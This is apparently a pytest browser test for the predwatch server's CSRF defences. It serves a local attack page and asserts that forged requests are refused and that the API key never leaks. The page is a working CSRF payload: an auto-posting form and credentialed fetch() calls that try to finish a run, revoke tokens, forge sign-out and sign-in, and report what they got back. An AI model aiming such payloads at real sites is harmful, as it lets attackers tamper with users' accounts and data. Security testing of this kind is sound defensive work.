"""Cross-site request forgery in a real browser: Debian's Chromium (playwright) signed in to a
real ``predwatch serve --auth on``, then sent to a page on ANOTHER port of 127.0.0.1 (a tiny local
HTTP server) that auto-posts a form to the run's ``finish`` route, forges sign-out and sign-in,
and fires ``fetch()`` calls at the API. Nothing changes: the run stays running, its training
job's token still writes, the user stays signed in; and no request or script on the other port
ever sees the API key. Signing in and out through the pages still works.

Without ``/usr/bin/chromium`` the module is skipped, unless ``PREDWATCH_REQUIRE_BROWSER=1``
(CI), where it fails. Any request off this machine fails the test.
"""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, NoReturn
from urllib.parse import urlsplit

import pytest

CHROMIUM = "/usr/bin/chromium"
LAUNCH_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
               "--disable-component-update"]
LOCAL_HOSTS = ("127.0.0.1", "localhost")

pytestmark = pytest.mark.browser


def _unavailable(message: str) -> NoReturn:
    if os.environ.get("PREDWATCH_REQUIRE_BROWSER") == "1":
        pytest.fail(f"PREDWATCH_REQUIRE_BROWSER=1 but {message}", pytrace=False)
    pytest.skip(message, allow_module_level=True)


if not Path(CHROMIUM).exists():
    _unavailable(f"{CHROMIUM} is missing (apt-get install chromium)")
try:
    from playwright import sync_api
except ImportError:
    _unavailable("playwright is not installed (pip install 'predwatch[dev]')")

import httpx  # noqa: E402

from predwatch.records import Run  # noqa: E402
from predwatch.server.auth import create_api_key, issue_run_token  # noqa: E402
from predwatch.storage import open_store  # noqa: E402
from predwatch.testing import start_server  # noqa: E402

expect = sync_api.expect

ATTACK = """<!doctype html><html><body>
<iframe name="sink" id="sink"></iframe>
<form id="finish" method="post" target="sink" action="{target}/api/runs/{run}/finish">
  <input name="status" value="failed"></form>
<script>
(async () => {{
  const target = "{target}";
  const results = {{cookie: document.cookie}};
  const sink = document.getElementById("sink");
  await new Promise((done) => {{
    sink.addEventListener("load", done, {{once: true}});
    document.getElementById("finish").submit();
  }});
  try {{ results.form_answer = sink.contentDocument.body.innerText; }}
  catch (e) {{ results.form_answer = "blocked: " + e; }}
  const tries = {{
    finish_json: () => fetch(target + "/api/runs/{run}/finish", {{method: "POST",
      credentials: "include", mode: "no-cors", headers: {{"Content-Type": "text/plain"}},
      body: '{{"status": "failed"}}'}}),
    rotate_tokens: () => fetch(target + "/api/runs/{run}/tokens?revoke_others=true", {{
      method: "POST", credentials: "include", mode: "no-cors"}}),
    revoke_tokens: () => fetch(target + "/api/runs/{run}/tokens", {{method: "DELETE",
      credentials: "include"}}),
    read_whoami: async () => (await fetch(target + "/api/whoami",
      {{credentials: "include"}})).text(),
    logout: () => fetch(target + "/logout", {{method: "POST", credentials: "include",
      mode: "no-cors"}}),
    login_as_attacker: () => fetch(target + "/login", {{method: "POST", credentials: "include",
      mode: "no-cors", headers: {{"Content-Type": "application/x-www-form-urlencoded"}},
      body: "key=pwk_attacker"}}),
  }};
  for (const [name, run] of Object.entries(tries)) {{
    try {{
      const got = await run();
      results[name] = typeof got === "string" ? got : got.type + " " + got.status;
    }} catch (e) {{ results[name] = "blocked: " + e; }}
  }}
  await fetch("/report", {{method: "POST", body: JSON.stringify(results)}});
}})();
</script></body></html>"""


class Attacker:
    """A tiny HTTP server on another port: serves the attack page, records every request."""

    def __init__(self, page: str) -> None:
        self.page = page.encode()
        self.seen: list[str] = []  # request lines, headers and bodies, as received
        self.report: dict[str, Any] | None = None
        self.reported = threading.Event()
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> bytes:
                length = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(length) if length else b""
                attacker.seen.append(f"{self.requestline}\n{self.headers}\n{body.decode()}")
                return body

            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
                self._record()
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(attacker.page)

            def do_POST(self) -> None:  # noqa: N802
                attacker.report = json.loads(self._record())
                attacker.reported.set()
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Attacker:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join(10)


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    url = f"sqlite:///{tmp_path_factory.mktemp('csrf') / 'csrf.db'}"
    store = open_store(url)
    try:
        _, key = create_api_key(store, "ann")
        store.create_run(Run(id="ann-run", name="ann's run", owner="ann"))
        token = issue_run_token(store, "ann-run")
    finally:
        store.close()
    server = start_server(url, args=["--auth", "on"])
    try:
        yield {"url": server.url, "db": url, "key": key, "token": token}
    finally:
        server.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    with sync_api.sync_playwright() as p:
        chromium = p.chromium.launch(executable_path=CHROMIUM, args=LAUNCH_ARGS)
        try:
            yield chromium
        finally:
            chromium.close()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context()
    problems: list[str] = []

    def offline(route: Any) -> None:
        url = urlsplit(route.request.url)
        if url.scheme in ("http", "https", "ws", "wss") and url.hostname not in LOCAL_HOSTS:
            problems.append(f"request off the machine: {route.request.url}")
            route.abort()
        else:
            route.continue_()

    context.route("**/*", offline)
    page = context.new_page()
    page.on("pageerror", lambda exc: problems.append(f"page error: {exc}"))
    page.set_default_timeout(15_000)
    try:
        yield page
    finally:
        context.close()
    assert not problems, problems


def sign_in(page: Any, site: dict[str, Any]) -> None:
    page.goto(site["url"] + "/")
    expect(page.locator("h1")).to_have_text("Not signed in")
    page.locator('input[name="key"]').fill(site["key"])
    page.get_by_role("button", name="Sign in").click()
    expect(page.locator("table.runs-table")).to_contain_text("ann's run")


def run_state(site: dict[str, Any]) -> str:
    store = open_store(site["db"])
    try:
        return str(store.get_run("ann-run").status)
    finally:
        store.close()


def test_a_page_on_another_port_cannot_change_anything_nor_see_the_key(
    page: Any, site: dict[str, Any]
) -> None:
    sign_in(page, site)
    cookies = {c["name"]: c for c in page.context.cookies()}
    port = urlsplit(site["url"]).port
    session = cookies[f"predwatch_session_{port}"]
    assert session["httpOnly"] and session["sameSite"] == "Strict"
    assert all(site["key"] not in c["value"] for c in cookies.values())

    answers: list[tuple[str, int]] = []
    page.on("response", lambda r: answers.append((r.request.method + " " + r.url, r.status))
            if r.url.startswith(site["url"]) else None)
    with Attacker(ATTACK.format(target=site["url"], run="ann-run")) as attacker:
        # Waiting for the report keeps playwright's loop running (its request routing is there).
        with page.expect_response(attacker.url + "/report", timeout=60_000):
            page.goto(attacker.url + "/")
        assert attacker.reported.is_set(), "the attack page never reported"
    refused = {what: status for what, status in answers}
    finish = f"POST {site['url']}/api/runs/ann-run/finish"
    assert refused[finish] == 403  # the form post and the fetch() alike
    assert all(status == 403 for what, status in answers if what.startswith("POST")), answers
    report = attacker.report or {}
    assert report["cookie"] == ""  # HttpOnly: the page cannot read the session cookie
    assert report["read_whoami"].startswith("blocked")  # no CORS: it cannot read answers
    assert report["revoke_tokens"].startswith("blocked")  # DELETE needs a preflight: refused
    assert report["form_answer"].startswith("blocked")  # the other origin's answer is unreadable
    seen = "\n".join(attacker.seen + [json.dumps(report)])
    assert site["key"] not in seen  # nothing the other port received or read holds the key

    assert run_state(site) == "running"
    ingest = httpx.post(site["url"] + "/api/training/local/predictions",
                        headers={"Authorization": f"Bearer {site['token']}"},
                        json={"job_id": "ann-run", "predictions": [
                            {"step": 1, "prompt": "q", "prediction": "a"}]}, timeout=30)
    assert ingest.status_code == 200, ingest.text  # the training job's token still writes
    page.goto(site["url"] + "/")  # still signed in as ann (sign-out and sign-in were forged)
    expect(page.locator("table.runs-table")).to_contain_text("ann's run")


def test_signing_in_and_out_through_the_pages(page: Any, site: dict[str, Any]) -> None:
    sign_in(page, site)
    page.goto(site["url"] + "/config")
    page.get_by_role("button", name="Check").first.click()  # a page form that POSTs
    expect(page.locator("h1")).to_contain_text("Predictions config builder")
    page.get_by_role("button", name="Sign out").click()
    expect(page.locator("h1")).to_have_text("Not signed in")
    assert not [c for c in page.context.cookies() if c["name"].startswith("predwatch_session")]
    page.goto(site["url"] + "/runs/ann-run")
    expect(page.locator("h1")).to_have_text("Not signed in")
